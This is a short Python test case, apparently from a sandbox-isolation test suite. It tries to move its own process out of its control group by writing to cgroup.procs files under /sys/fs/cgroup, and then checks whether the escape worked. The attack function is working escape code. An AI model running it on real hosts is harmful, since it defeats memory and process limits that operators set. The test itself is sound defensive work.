"""Moves itself out of its control group, and so out of its limits.

layer: mount namespace
control: root without a sandbox moves itself out of a group made for it
"""
import os

NEEDS = ["cgroup1"]
CONTROL = "root"
OPTIONS = ["--memory", "256M", "--pids", "64"]


def scene(s):
    if s.control:
        s.group = f"/sys/fs/cgroup/pids/control-{s.token[:12]}"
        with s.t.root():
            os.mkdir(s.group)
        s.t.defer(os.rmdir, s.group)
        s.args = {"group": s.group}
        s.prepare = lambda: open(s.group + "/cgroup.procs",
                                 "w").write("0") if not os.seteuid(0) else None


def attack(a):
    print("before:", slurp("/proc/self/cgroup"))
    if not inside():
        put("/sys/fs/cgroup/pids/cgroup.procs", "0")
        print("moved: out of", a["group"])
        return
    tops = ["/sys/fs/cgroup"]
    try:
        tops += [line.split()[4] for line in slurp("/proc/self/mountinfo").splitlines()
                 if " - cgroup" in line]
    except OSError as error:
        print(error)
    for top in tops:
        for sub in ("", "/memory", "/pids", "/unified"):
            try:
                put(f"{top}{sub}/cgroup.procs", "0")
                print("moved:", top + sub)
            except OSError:
                pass


def escaped(s, r):
    return "moved:" in r.out and (not s.control
                                  or s.group.rsplit("/", 1)[1] in r.out.split("moved:")[0])
